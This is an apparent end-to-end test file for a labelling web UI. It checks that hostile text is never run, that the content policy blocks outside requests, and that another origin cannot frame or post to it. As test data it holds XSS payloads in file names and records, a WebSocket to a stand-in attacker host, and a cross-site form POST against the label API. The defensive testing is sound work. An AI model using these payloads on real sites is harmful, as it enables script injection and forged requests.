"""Whatever stands in the files, it is text on the pages: nothing runs, nothing is asked of another
server.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from PIL import Image

from prill.emulators.browser.chromium import Chromium
from prill.types import EvaluatorInfo, LabelRecord, Verdict
from prill.ui.serving import serving
from prill.ui.view.site import ViewSite
from tests.e2e.view.conftest import at, idle, press
from tests.support.closing import closed
from tests.support.labelling import labelling
from tests.support.payloads import AWAY, COUNTS, PAYLOADS, RUN

if TYPE_CHECKING:
    from playwright.async_api import Page

pytestmark = pytest.mark.asyncio(loop_scope="module")

ACTIVE = """() => [...document.querySelectorAll("*")].flatMap((node) => [...node.attributes]
  .filter((one) => /^on|^(href|xlink:href|src|srcset|srcdoc|action|formaction|style|ping|data)$/.test(one.name))
  .map((one) => `${one.name}=${one.value}`))"""  # noqa: E501
# Marks for writing from right to left reach to the end of what isolates them: nothing that is not
# theirs may follow there.
REACHES = """() => {
  const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT), found = [];
  while (walk.nextNode()) {
    const node = walk.currentNode;
    if (!node.data.includes("\\u202e") || node.parentElement.closest("bdi, pre, td, textarea, [dir=auto]")) continue;
    const last = node === node.parentElement.lastChild && node.data.split("\\u202e").length === 2;
    if (!last) found.push(node.parentElement.outerHTML);
  }
  return found;
}"""  # noqa: E501
ALLOWED = {"href=data:,", "href=view.css", "src=view.js"}


class Watch:
    """A window, and everything that it asked for, opened or complained about."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.url = page, url
        self.requests: list[str] = []
        self.events: list[str] = []
        page.context.on("request", lambda request: self.requests.append(request.url))
        page.context.on("page", lambda opened: self.events.append(f"window {opened.url}"))
        page.on("pageerror", lambda error: self.events.append(f"error {error}"))
        page.on("dialog", lambda dialog: self.events.append(f"dialog {dialog.message}"))
        page.on("console", lambda message: self.events.append(f"console {message.text}"))
        page.on(
            "framenavigated",
            lambda frame: (
                self.events.append(f"went to {frame.url}")
                if frame.url.partition("#")[0] != url
                else None
            ),
        )

    async def is_untouched(self, title: str) -> None:
        """Nothing has run, and what the browser acts on is the page's own."""
        assert await self.page.evaluate("window.owned") is None
        assert await self.page.title() == title
        for active in await self.page.evaluate(ACTIVE):
            name, _, value = active.partition("=")
            own = (
                value.startswith("pictures/")
                if name == "src"
                else name == "style" and "url" not in value
            )
            assert own or active in ALLOWED, active
        assert await self.page.evaluate(REACHES) == []

    def asked_only_home(self) -> None:
        """Every request went to the server's own origin; pictures that are not there are the only
        complaints.
        """
        assert self.requests and all(
            url.startswith(self.url) or url == "data:," for url in self.requests
        ), self.requests
        assert [event for event in self.events if "404" not in event and "415" not in event] == []


@asynccontextmanager
async def watched(browser: Chromium, url: str) -> AsyncIterator[Watch]:
    context = await browser.context(1280, 800)
    try:
        page = await context.new_page()
        watch = Watch(page, url)
        await page.goto(url)
        await at(page, 1)
        yield watch
        watch.asked_only_home()
    finally:
        await closed(context)


def hostile_run(i: int, text: str) -> dict[str, Any]:
    # Other names are refused when the file is read: those that leave its folder, or hold a null
    # character.
    picture = text if ".." not in text and "\0" not in text else "absent.png"
    state = {"text": text, "caption": text, "url": text, "screenshot": picture}
    action = {"kind": "type", "text": text, "target": text, "value": text, "point": [0.5, 0.5]}
    said = {"kind": "message", "text": f"{text}!", "value": f"{text}?"}
    step = {"observation": state, "action": action, "thought": text}
    return {
        "id": f"{i} {text}",
        "task": {
            "id": text,
            "goal": text,
            "site": f"site {text}",
            "start_url": text,
            "earlier": [{"id": "e", "task": {"goal": text}, "answer": text}],
        },
        "agent": text,
        "steps": [step, {**step, "action": said}],
        "final": state,
        "answer": text,
        "error": text,
        "metadata": {text[:100]: text},
    }


@contextmanager
def label_page(folder: Path, annotator: str = "me") -> Iterator[ViewSite]:
    """A trajectory a payload, and what a person and a judge of that name say of it; a file that has
    such a name, too.
    """
    Image.new("RGB", (40, 30)).save(folder / 'a\' "quoted" name\\', "PNG")
    path = folder / "t\udcff'\"><img src=x onerror=window.owned=1>.jsonl"
    records = [hostile_run(i, text) for i, text in enumerate(PAYLOADS)]
    with path.open("w") as file:
        file.writelines(json.dumps(record) + "\n" for record in records)
        file.write('{"id": "<img src=x onerror=window.owned=1>", "task": 7}\n')
        file.write('{"id": "half", "task": {"goal": "\\ud83d"}, "steps": []}\n')
    ids = [str(record["id"]) for record in records]
    pairs = list(zip(ids, PAYLOADS, strict=True))
    earlier = [
        LabelRecord(id=id, success=True, annotator=f"{text[:300]}~", note=text)
        for id, text in pairs
    ]
    judge = EvaluatorInfo("judge", "1", "m")
    verdicts = [
        Verdict(
            id=id,
            success=False,
            reason=text,
            evaluator=replace(judge, name=text, version=text, model=text),
        )
        for id, text in pairs
    ]
    labels = folder / "l.jsonl"
    with labelling(path, labels, annotator, earlier=earlier, verdicts=verdicts) as site:
        yield site


async def test_labels_page_shows_all_runs_nothing(browser: Chromium, tmp_path: Path) -> None:
    counts: list[dict[str, int]] = []
    with label_page(tmp_path, PAYLOADS[3]) as site:
        async with serving(site) as url, watched(browser, url) as watch:
            page = watch.page
            for i, text in enumerate(PAYLOADS):
                await at(page, i + 1)
                shown = await page.evaluate("document.querySelector('#detail h2').textContent")
                assert shown == text
                await page.evaluate(
                    "document.querySelectorAll('details').forEach((one) => { one.open = true; })"
                )
                await page.locator("#text pre:not(:empty)").wait_for()
                await watch.is_untouched("prill")
                await press(page, "ArrowRight", "End", "s", "e")
                await page.fill("#note", text[:5_000].replace("\0", ""))
                await press(page, "Control+Enter")
                await (at(page, i + 2) if i + 1 < len(PAYLOADS) else idle(page))
                await press(page, ",") if i + 1 < len(PAYLOADS) else None
                await at(page, i + 1)
                await page.locator(".label-line li").nth(1).wait_for()
                await page.locator(".judge .reason").first.wait_for()
                await watch.is_untouched("prill")
                await page.locator("#stage .frame").wait_for()
                counts.append(await page.evaluate(COUNTS))
                await press(page, "g")
                await page.keyboard.type(str(i + 1))
                await page.locator("#found").filter(has_text=f"1 of {len(PAYLOADS) + 2}").wait_for()
                await press(page, "Enter")
                await at(page, i + 1)
                await press(page, ".")
                await idle(page)
        assert site.session is not None and len(site.session.log.mine) == len(PAYLOADS)
    assert all(count == counts[0] for count in counts), (
        "what a text is changes what the page is made of"
    )


async def test_policy_stops_what_gets_in(browser: Chromium, tmp_path: Path) -> None:
    """Were markup ever put into the pages, their policy would neither run it nor send anything
    away.
    """
    with label_page(tmp_path) as site:
        async with serving(site) as url:
            context = await browser.context(1280, 800)
            page = await context.new_page()
            outside: list[str] = []
            context.on("requestfinished", lambda request: outside.append(request.url))
            await page.goto(url)
            await at(page, 1)
            for text in PAYLOADS:
                if "refresh" in text:
                    # no policy stops a page from being sent elsewhere, and this one was never told
                    # to
                    continue
                await page.evaluate(
                    "(text) => "
                    "document.querySelector('#detail').insertAdjacentHTML('beforeend', text)",
                    text,
                )
            inline = (
                "const made = document.createElement('script'); made.textContent = code; "
                "document.body.append(made);"
            )
            await page.evaluate(f"(code) => {{ {inline} }}", RUN)
            opening = (
                "new Promise((a, b) => { const s = new WebSocket('ws://attacker.invalid'); "
                "s.onopen = a; s.onerror = b; })"
            )
            for reach in (f"fetch('{AWAY}')", opening):
                assert (
                    await page.evaluate(f"() => {reach}.then(() => 'sent', () => 'blocked')")
                    == "blocked"
                )
            assert await page.evaluate("window.owned") is None
            assert page.url.partition("#")[0] == url
            assert not [one for one in outside if not one.startswith((url, "data:"))]
            await closed(context)


async def test_other_site_neither_frames_nor_posts(browser: Chromium, tmp_path: Path) -> None:
    """A page of another origin in the same browser that knows even the address: no frame, no form,
    no fetch, no picture.
    """
    with label_page(tmp_path) as site:
        async with serving(site) as url:
            context = await browser.context(800, 600)
            page = await context.new_page()
            frame = f"<iframe src='{url}'></iframe><img src='{url}pictures/21/0'>"
            form = f"<form method=post enctype=text/plain action='{url}api/labels/0' target=f>"
            form += """<input name='{"choice":"success","x":"' value='"}'></form><iframe name=f></iframe>"""  # noqa: E501
            await page.route(
                "http://attacker.invalid/**",
                lambda route: route.fulfill(body=frame + form, content_type="text/html"),
            )
            await page.goto("http://attacker.invalid/")
            sent = """async (url) => {
              document.forms[0].submit();
              const tries = [["text/plain", "no-cors"], ["application/json", "cors"], ["application/json", "no-cors"]];
              for (const [type, mode] of tries) {
                const headers = { "Content-Type": type }, body = '{"choice":"success"}';
                await fetch(`${url}api/labels/0`, { method: "POST", mode, body, headers }).catch(() => null);
              }
              const read = await fetch(`${url}api/state`).then((answer) => answer.text(), () => "blocked");
              return [read, document.images[0].naturalWidth];
            }"""  # noqa: E501
            assert await page.evaluate(sent, url) == ["blocked", 0]
            for one in page.frames[1:]:
                assert await one.locator("#detail").count() == 0
            await closed(context)
        assert site.session is not None and not site.session.log.mine
    assert (tmp_path / "l.jsonl").stat().st_size == 0
